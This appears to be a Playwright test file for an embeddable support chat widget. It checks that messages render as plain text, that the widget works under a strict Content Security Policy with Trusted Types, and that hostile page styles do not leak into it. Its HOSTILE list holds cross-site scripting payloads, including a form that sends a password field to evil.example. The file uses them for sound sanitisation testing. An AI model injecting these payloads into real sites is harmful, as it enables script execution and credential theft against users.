"""Words stay words: hostile texts, strict pages, hostile styles."""

import pytest
from playwright.sync_api import expect

HOSTILE = [
    "<img src=x onerror=\"document.title='pwned'\">",
    "<script>document.title='pwned'</script>",
    "<svg/onload=document.title='pwned'><a href='javascript:alert(1)'>x</a></svg>",
    "[click me](javascript:document.title='pwned')",
    "[click me](data:text/html,<script>alert(1)</script>)",
    "javascript:document.title='pwned'",
    '" onmouseover="document.title=\'pwned\'" x="',
    "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "**bold <b>not</b>** `<i>code</i>` {{constructor.constructor('alert(1)')()}}",
    "<style>*{display:none}</style><form action=https://evil.example><input name=password>",
    "&lt;img src=x onerror=alert(1)&gt; \u202e\u2066 <!-- ]]> --> </textarea></div>",
]

# Elements that our own drawing uses inside a bubble; anything else came from the words.
OURS = {"P", "STRONG", "EM", "CODE", "A", "UL", "OL", "LI", "PRE", "SPAN"}


def elements(shopper):
    return shopper.log.locator(".bubble *").evaluate_all(
        "(all) => all.map((one) => [one.tagName, one.getAttributeNames(), one.href ?? ''])"
    )


def check_harmless(shopper, title):
    for tag, names, href in elements(shopper):
        assert tag in OURS, tag
        assert tag != "SPAN" or names == ["class"], names
        assert set(names) <= {"href", "target", "rel", "start", "class"}, names
        assert not href or href.split(":")[0] in {"http", "https", "mailto", "tel"}, href
    assert shopper.page.title() == title


def test_a_customers_hostile_words_create_nothing(desk, shopper):
    shopper.visit(desk.url).to_the_queue()
    shopper.sees("Ticket #")
    title = shopper.page.title()
    for text in HOSTILE:
        shopper.say(text)
        expect(shopper.log.locator(".customer .bubble").last).to_have_text(text)
    expect(shopper.log.locator("[data-cid]")).to_have_count(0, timeout=60_000)
    check_harmless(shopper, title)


def test_an_agents_hostile_words_create_nothing(desk, shopper, maya):
    shopper.visit(desk.url).to_the_queue()
    conversation = maya.take()
    title = shopper.page.title()
    for text in HOSTILE:
        maya.do("say", conversation, text=text)
    maya.do("say", conversation, text="the last [good](https://good.example/a) one")
    shopper.sees("the last good one")
    link = shopper.log.get_by_role("link", name="good")
    expect(link).to_have_attribute("rel", "noopener nofollow")
    expect(link).to_have_attribute("href", "https://good.example/a")
    check_harmless(shopper, title)


def strict_page(desk, nonce=""):
    return (
        '<!doctype html><html lang="en"><title>Strict</title>'
        f'<script async data-site="demo" src="{desk.url}v1/chat.js"{nonce}></script><h1>Shop</h1>'
    )


VIOLATIONS = """
  window.violations = [];
  document.addEventListener('securitypolicyviolation', (event) =>
    window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""


@pytest.mark.parametrize("source", ["host", "nonce"])
def test_a_page_with_a_strict_policy_and_trusted_types_reports_nothing(desk, host, shopper, source):
    scripts = desk.url if source == "host" else "'nonce-abc123' 'strict-dynamic'"
    socket = desk.url.replace("http", "ws")
    policy = (
        f"default-src 'none'; script-src {scripts}; style-src 'none'; connect-src {desk.url} {socket};"
        " base-uri 'none'; form-action 'none';"
        " require-trusted-types-for 'script'; trusted-types 'none'"
    )
    nonce = ' nonce="abc123"' if source == "nonce" else ""
    url = host.put("/strict", strict_page(desk, nonce), {"Content-Security-Policy": policy})
    shopper.page.add_init_script(VIOLATIONS)
    shopper.visit(url).greeted().choose("An order or delivery").sees("What is the order number?")
    shopper.page.keyboard.press("Escape")
    expect(shopper.launcher).to_be_focused()
    assert shopper.page.evaluate("violations") == []


def test_our_own_page_keeps_its_own_policy(desk, shopper):
    shopper.page.add_init_script(VIOLATIONS)
    shopper.visit(desk.url).greeted()
    assert shopper.page.evaluate("violations") == []


def test_a_page_of_another_site_is_refused(desk, host, shopper):
    page = strict_page(desk).replace('data-site="demo"', 'data-site="unknown"')
    shopper.visit(host.put("/", page)).open()
    expect(shopper.panel.get_by_role("status").filter(has_text="not available")).to_be_visible()


def test_hostile_styles_of_the_page_stay_outside(desk, host, shopper):
    css = """
      * { color: red !important; font-size: 31px !important; font-family: cursive !important;
        letter-spacing: 9px !important; line-height: 4 !important;
        text-transform: uppercase !important;
        background: lime !important; direction: ltr; }
      button, div, section, textarea { display: none !important; border: 9px solid red !important; }
      frontdesk-chat, :host { color: red !important; font-size: 31px !important; zoom: 1; }
    """
    host.put("/bad.css", css)
    page = strict_page(desk).replace("<h1>", '<link rel="stylesheet" href="/bad.css"><h1>')
    shopper.visit(host.put("/bad", page)).greeted()
    style = shopper.log.locator(".bubble").first.evaluate(
        "(one) => { const s = getComputedStyle(one);"
        " return [s.fontSize, s.letterSpacing, s.textTransform, s.color, s.borderTopWidth]; }"
    )
    assert style == ["15px", "normal", "none", "rgb(23, 26, 33)", "0px"]
    box = shopper.launcher.bounding_box()
    assert (box["width"], box["height"]) == (60, 60)


def test_the_widget_moves_nothing_on_the_page(desk, shopper):
    shopper.page.add_init_script(
        "window.shift = 0; new PerformanceObserver((list) => list.getEntries().forEach((entry) => {"
        " window.shift += entry.value; })).observe({type: 'layout-shift', buffered: true});"
    )
    shopper.visit(desk.url)
    shopper.page.evaluate("Frontdesk.open()")
    shopper.sees("What is it about?")
    assert shopper.page.evaluate("window.shift") == 0


def test_a_page_may_carry_the_tag_twice(desk, host, shopper):
    tag = f'<script async data-site="demo" src="{desk.url}v1/chat.js"></script>'
    url = host.put("/", f'<!doctype html><html lang="en"><title>Twice</title>{tag}{tag}')
    shopper.visit(url)
    expect(shopper.page.locator("frontdesk-chat")).to_have_count(1)


def test_calls_made_before_the_widget_is_here_are_done_in_order(desk, host, shopper):
    early = (
        "(window.Frontdesk = window.Frontdesk || []).push("
        "['on', 'open', () => { window.opened = true; }], ['identify', {name: 'Ana'}],"
        " ['prefill', 'Where is my parcel?'], ['open'], ['nonsense'])"
    )
    page = f"<!doctype html><html lang='en'><title>Early</title><script>{early}</script>"
    tag = f'<script async data-site="demo" src="{desk.url}v1/chat.js"></script>'
    shopper.visit(host.put("/", page + tag))
    expect(shopper.panel).to_be_visible()
    expect(shopper.input).to_have_value("Where is my parcel?")
    assert shopper.page.evaluate("window.opened") is True
    expect(shopper.option("An order or delivery")).to_be_enabled()
    assert any("nonsense" in error for error in shopper.errors)
    shopper.errors.clear()
